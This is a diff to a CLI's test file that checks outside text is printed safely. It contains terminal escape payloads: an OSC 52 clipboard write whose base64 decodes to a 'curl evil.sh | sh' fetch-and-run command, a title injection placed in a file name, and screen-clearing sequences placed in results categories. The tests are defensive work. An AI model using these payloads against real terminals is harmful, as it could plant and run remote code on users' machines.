@@ -1,4 +1,4 @@
-import { mkdtempSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Command } from 'commander';
@@ -90,5 +90,57 @@ describe('the CLI prints outside text safely', () => {
     expect(out).toContain(
       'Weather \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 Paris: Sunny \\x1b]0;owned\\x1b\\ and \\x1b[2J\\x1b[H cleared \\x9b31m red',
     );
+  });
+});
+
+describe('files from outside are printed safely (row 19)', () => {
+  it('shortcuts show: a downloaded file whose name retitles the terminal', async () => {
+    const { runCliInProcess } = await import('./__fixtures__/run-cli-in-process.js');
+    const dir = mkdtempSync(join(tmpdir(), 'apiary-evil-shortcut-'));
+    const battery = join(
+      import.meta.dirname,
+      '../tasks/shortcutsbench/__fixtures__/my-shortcuts/battery.plist',
+    );
+    const evil = join(dir, `evil${TITLE}.plist`);
+    writeFileSync(evil, readFileSync(battery));
+    const r = await runCliInProcess(['shortcuts', 'show', evil]);
+    expect(r.code).toBe(0);
+    expect(r.stdout).not.toMatch(UNSAFE);
+    expect(r.stdout.split('\n')[0]).toBe(
+      'evil\\x1b]0;owned\\x1b\\ (xml-plist): 2 actions, length 2 (longest branch), level L2',
+    );
+  });
+
+  it('report: a results file whose category clears the screen; summary.json keeps no configured key', async () => {
+    const { reportRun } = await import('./commands/report.js');
+    const { registerSecret } = await import('../shared/index.js');
+    const key = 'sk-report-attack-key-0123456789abcdef';
+    registerSecret(key);
+    const dir = mkdtempSync(join(tmpdir(), 'apiary-evil-report-'));
+    const file = join(dir, 'results.jsonl');
+    // a real run's records (the viewer fixture), their categories rewritten by the attacker
+    const fixture = join(import.meta.dirname, '../viewer/__fixtures__/appbench-tool-loop/results.jsonl');
+    const evil = [`mm${CLEAR}`, key];
+    let n = 0;
+    const lines = readFileSync(fixture, 'utf8')
+      .trim()
+      .split('\n')
+      .map((text) => {
+        const line = JSON.parse(text);
+        if (line.type === 'sample') {
+          const category = evil[n++ % evil.length];
+          line.category = category;
+          if (line.score) line.score.category = category;
+        }
+        return JSON.stringify(line);
+      });
+    writeFileSync(file, `${lines.join('\n')}\n`);
+    const out = await captured(process.stdout, () => reportRun(file, {}));
+    expect(out).toContain('mm\\x1b[2J\\x1b[H');
+    expect(out).not.toMatch(UNSAFE);
+    expect(out).not.toContain(key);
+    const summary = readFileSync(join(dir, 'summary.json'), 'utf8');
+    expect(summary).not.toContain(key);
+    expect(summary).toContain('[REDACTED]');
   });
 });
